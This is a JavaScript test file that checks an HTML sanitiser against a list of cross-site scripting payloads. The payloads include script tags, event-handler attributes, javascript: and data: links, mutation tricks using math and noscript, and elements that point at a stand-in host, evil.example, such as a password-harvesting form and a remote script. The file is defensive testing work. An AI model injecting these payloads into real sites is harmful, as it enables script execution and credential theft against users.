// @vitest-environment jsdom
// DOMPurify is tested under jsdom, not happy-dom, which is not safe for it (shared/toolchain.md).
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitizeHtml.ts';

const payloads: Array<[string, string]> = [
  ['script element', '<p>Hi</p><script>window.__xss = 1</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['img onerror', '<img src="x" onerror="window.__xss = 1">'],
  ['body onload', '<body onload="window.__xss = 1">'],
  ['svg onload', '<svg onload="window.__xss = 1"><circle r="1"/></svg>'],
  ['svg script', '<svg><script>window.__xss = 1</script></svg>'],
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['javascript link', '<a href="javascript:window.__xss = 1">click</a>'],
  ['obfuscated javascript link', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
  ['data link', '<a href="data:text/html,<script>alert(1)</script>">click</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">click</a>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['form', '<form action="https://evil.example"><input name="password"><button>Send</button></form>'],
  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['style tag', '<style>body{background:url("javascript:alert(1)")}</style>'],
  ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base tag', '<base href="https://evil.example/">'],
  ['link import', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['details ontoggle', '<details open ontoggle="window.__xss = 1">x</details>'],
  ['srcset', '<img srcset="javascript:alert(1) 1x">'],
  ['protocol-relative image', '<img src="//evil.example/track.png">'],
];

describe('sanitizeHtml: operator HTML cannot run code, restyle or submit (issue 7)', () => {
  it.each(payloads)('%s is neutralised', (_name, payload) => {
    const clean = sanitizeHtml(payload);
    const container = document.createElement('div');
    container.innerHTML = clean;
    const all = [container, ...container.querySelectorAll('*')];
    for (const el of all) {
      for (const attr of el.getAttributeNames()) {
        expect(attr, `attribute ${attr} on <${el.tagName}>`).not.toMatch(/^on/i);
        expect(attr).not.toBe('style');
        expect(attr).not.toBe('formaction');
        expect(attr).not.toBe('srcdoc');
        expect(attr).not.toBe('srcset');
      }
    }
    expect(container.querySelector('script, iframe, object, embed, form, input, button, style, meta, base, link, svg, math, template'))
      .toBeNull();
    for (const el of container.querySelectorAll('[href], [src]')) {
      const value = el.getAttribute('href') ?? el.getAttribute('src') ?? '';
      expect(value).toMatch(/^(https?:|mailto:|tel:|\/(?!\/)|#)/i);
    }
    expect(clean.toLowerCase()).not.toContain('javascript:');
  });

  it('keeps the structure of ordinary content', () => {
    const html =
      '<h2>Réserver</h2><p>Choisissez une <strong>station</strong> puis <a href="/frontofficev2/faqs">lisez la FAQ</a>.</p>' +
      '<ul><li>Un</li><li>Deux</li></ul><p><a href="mailto:aide@example.com">Écrire</a> · <a href="tel:+33123456789">Appeler</a></p>';
    const clean = sanitizeHtml(html);
    expect(clean).toContain('<h2>Réserver</h2>');
    expect(clean).toContain('<strong>station</strong>');
    expect(clean).toContain('<a href="/frontofficev2/faqs">lisez la FAQ</a>');
    expect(clean).toContain('<ul><li>Un</li><li>Deux</li></ul>');
    expect(clean).toContain('href="mailto:aide@example.com"');
    expect(clean).toContain('href="tel:+33123456789"');
  });

  it('a table, which scrolls sideways on a phone, can be reached with the keyboard (WCAG 2.1.1); tabindex is not kept from the operator', () => {
    const clean = sanitizeHtml('<table tabindex="-1"><tr><td>9 €</td></tr></table><p tabindex="3">x</p>');
    expect(clean).toContain('<table tabindex="0">');
    expect(clean).toContain('<p>x</p>');
  });

  it('opens external links beside the site with rel="noopener noreferrer", not same-site ones', () => {
    const container = document.createElement('div');
    container.innerHTML = sanitizeHtml('<a href="https://operator.example/tarifs">Tarifs</a><a href="/frontofficev2/contact">Contact</a>');
    const [external, internal] = container.querySelectorAll('a');
    expect(external?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(external?.getAttribute('target')).toBe('_blank');
    expect(internal?.hasAttribute('rel')).toBe(false);
    expect(internal?.hasAttribute('target')).toBe(false);
  });

  it('rendered into the page, no payload runs', () => {
    const win = window as Window & { __xss?: number };
    delete win.__xss;
    const container = document.createElement('div');
    document.body.append(container);
    container.innerHTML = payloads.map(([, payload]) => sanitizeHtml(payload)).join('');
    expect(win.__xss).toBeUndefined();
    container.remove();
  });
});
